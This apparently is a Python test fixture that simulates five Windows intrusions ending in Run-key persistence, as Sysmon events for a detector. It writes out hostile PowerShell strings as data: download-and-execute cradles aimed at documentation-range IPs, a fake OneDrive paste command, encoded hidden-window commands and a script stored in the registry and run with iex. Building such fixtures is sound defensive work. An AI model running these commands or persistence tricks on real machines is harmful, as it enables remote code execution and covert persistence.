"""Five intrusions that end in a Run key. The addresses are those that RFC 5737 sets aside for documents."""

from __future__ import annotations

import base64

from tests.site.simulation.hosts import Host, host
from tests.site.simulation.installations import RUN_OF_USER
from tests.site.simulation.moments import at
from tests.site.simulation.planted import (
    CHAIN,
    CRITICAL,
    FIRED,
    HIGH,
    STORED,
    Intrusion,
    Planted,
    Plot,
)
from tests.site.simulation.processes import WINDOWS, desktop
from tests.site.simulation.sysmon import created, set_value, started

POWERSHELL = rf"{WINDOWS}\WindowsPowerShell\v1.0\powershell.exe"
REG = rf"{WINDOWS}\reg.exe"
_WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
_CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
_EDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"


def encoded_powershell() -> Plot:
    """A document's macro lets reg.exe register an encoded PowerShell command."""
    victim, script = host(3), "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/s')"
    arguments = f"-nop -w hidden -enc {encoded(script)}"
    document = rf"{victim.profile}\Downloads\Mahnung_4471.docm"
    explorer = desktop(victim, "Tue")
    browser = explorer.start_at(at("Tue 10:11:20"), _EDGE)
    word = explorer.start_at(at("Tue 10:12:40"), _WORD, f'"{_WORD}" /n "{document}" /o ""')
    shell = word.start(31.2, POWERSHELL, f"powershell.exe {arguments}")
    add = r'"C:\Windows\system32\reg.exe" add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v WindowsSync'
    reg = shell.start(49.6, REG, f'{add} /t REG_SZ /d "powershell.exe {arguments}" /f')
    events = (
        started(browser),
        created(browser, 8.1, document),
        started(word),
        started(shell),
        created(shell, 0.9, rf"{victim.profile}\AppData\Local\Temp\__PSScriptPolicyTest_5vq1kzhd.bo2.ps1"),
        started(reg),
        set_value(reg, 0.03, run_value(victim, "WindowsSync"), f"powershell.exe {arguments}"),
        # The shell finds the program in the path and quotes it.
        started(desktop(victim, "Wed").start(24.9, POWERSHELL, f'"{POWERSHELL}" {arguments}')),
    )
    planted = Planted((reg.time + 0.03,), "WindowsSync", (CRITICAL, FIRED))
    return Plot(Intrusion("WindowsSync", "encoded PowerShell in HKCU Run", victim.name, (planted,)), events)


def program_in_roaming() -> Plot:
    """A downloaded program copies itself to AppData\\Roaming, and the copy registers itself."""
    victim = host(10)
    download = rf"{victim.profile}\Downloads\Rechnung_88213.exe"
    copy = rf"{victim.profile}\AppData\Roaming\HelpdeskAgent\hdagent.exe"
    explorer = desktop(victim, "Tue")
    browser = explorer.start_at(at("Tue 14:38:02"), _CHROME)
    dropper = explorer.start_at(at("Tue 14:39:15"), download)
    agent = dropper.start(4.4, copy, f'"{copy}" -install')
    events = (
        started(browser),
        created(browser, 11.5, download),
        started(dropper),
        created(dropper, 2.7, copy),
        started(agent),
        set_value(agent, 50.3, run_value(victim, "HelpdeskAgent"), f'"{copy}" -s'),
        started(desktop(victim, "Wed").start(25.3, copy, f'"{copy}" -s')),
    )
    planted = Planted((agent.time + 50.3,), "HelpdeskAgent", (HIGH, CHAIN))
    return Plot(Intrusion("HelpdeskAgent", "program below AppData\\Roaming", victim.name, (planted,)), events)


def false_onedrive() -> Plot:
    """A command that a web page had the user paste puts its own program behind OneDrive's name, twice."""
    victim = host(16)
    fetch = 'powershell -w 1 -c "iwr http://198.51.100.24/od -OutFile $env:LOCALAPPDATA\\OneDrive\\OneDrive.exe"'
    program = rf"{victim.profile}\AppData\Local\OneDrive\OneDrive.exe"
    value, details = run_value(victim, "OneDrive"), f'"{program}" /background'
    explorer = desktop(victim, "Wed")
    shown = fetch.replace("powershell", f'"{POWERSHELL}"', 1)
    first = explorer.start_at(at("Wed 09:24:30"), POWERSHELL, shown)
    second = explorer.start_at(at("Wed 12:24:31"), POWERSHELL, shown)
    last_run = victim.fill(r"HKU\<sid>\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a")
    events = (
        set_value(explorer, first.time - explorer.time - 0.2, last_run, rf"{fetch}\1"),
        started(first),
        created(first, 12.8, program),
        set_value(first, 19.5, value, details),
        started(first.start(22.0, program, details)),
        started(second),
        created(second, 11.0, program),
        set_value(second, 18.6, value, details),
        started(desktop(victim, "Thu").start(19.7, program, details)),
    )
    planted = Planted((first.time + 19.5, second.time + 18.6), "OneDrive", (CRITICAL, CHAIN))
    return Plot(Intrusion("OneDrive", "a known product's name with another command", victim.name, (planted,)), events)


def stored_script() -> Plot:
    """A script goes into a value of Notepad's key, and a short command in Run reads it back."""
    victim = host(35)
    archive = rf"{victim.profile}\Downloads\Bewerbung_Hartmann.zip"
    read = (
        r'powershell.exe -w hidden -c "$s=(gp HKCU:\Software\Microsoft\Notepad).lfState;'
        'iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($s)))"'
    )
    explorer = desktop(victim, "Fri")
    browser = explorer.start_at(at("Fri 10:28:44"), _EDGE)
    shell = explorer.start_at(at("Fri 10:30:05"), POWERSHELL, rf'"{POWERSHELL}" -ep bypass -f .\Lebenslauf.pdf.ps1')
    events = (
        started(browser),
        created(browser, 6.6, archive),
        started(shell),
        created(shell, 1.1, rf"{victim.profile}\AppData\Local\Temp\__PSScriptPolicyTest_w0x3p5rj.mdn.ps1"),
        set_value(shell, 4.2, victim.fill(r"HKU\<sid>\Software\Microsoft\Notepad\lfState"), encoded(_long_script())),
        set_value(shell, 4.9, run_value(victim, "NotepadState"), read),
        started(shell.start(6.3, POWERSHELL, read)),
    )
    planted = (
        Planted((shell.time + 4.2,), "lfState", (STORED,)),
        Planted((shell.time + 4.9,), "NotepadState", (CRITICAL,)),
    )
    return Plot(Intrusion("NotepadState", "program stored in an ordinary key", victim.name, planted), events)


def hidden_name() -> Plot:
    """A setup program writes a value whose name begins with NUL, of which Sysmon shows the key and a backslash."""
    victim = host(33)
    setup = rf"{victim.profile}\AppData\Local\Temp\7zO4A1C\Setup.exe"
    program = r"C:\Users\Public\Libraries\ms-cache.exe"
    dropper = desktop(victim, "Fri").start_at(at("Fri 10:51:10"), setup)
    events = (
        started(dropper),
        created(dropper, 1.9, program),
        set_value(dropper, 3.4, run_value(victim, ""), program),
        started(dropper.start(5.0, program)),
    )
    planted = Planted((dropper.time + 3.4,), "<hidden>", (CRITICAL, CHAIN))
    return Plot(Intrusion("ms-cache", "hidden value name", victim.name, (planted,)), events)


def run_value(victim: Host, name: str) -> str:
    """Name a value of the user's Run key as Sysmon does."""
    return victim.fill(rf"{RUN_OF_USER}\{name}")


def encoded(script: str) -> str:
    """Encode a script as PowerShell's -EncodedCommand wants it."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def _long_script() -> str:
    steps = [
        f"$part{number} = (New-Object Net.WebClient).DownloadString('http://203.0.113.40/{number}')"
        for number in range(9)
    ]
    return "\n".join([*steps, "Invoke-Expression (($part0, $part1, $part2, $part3) -join '')"])
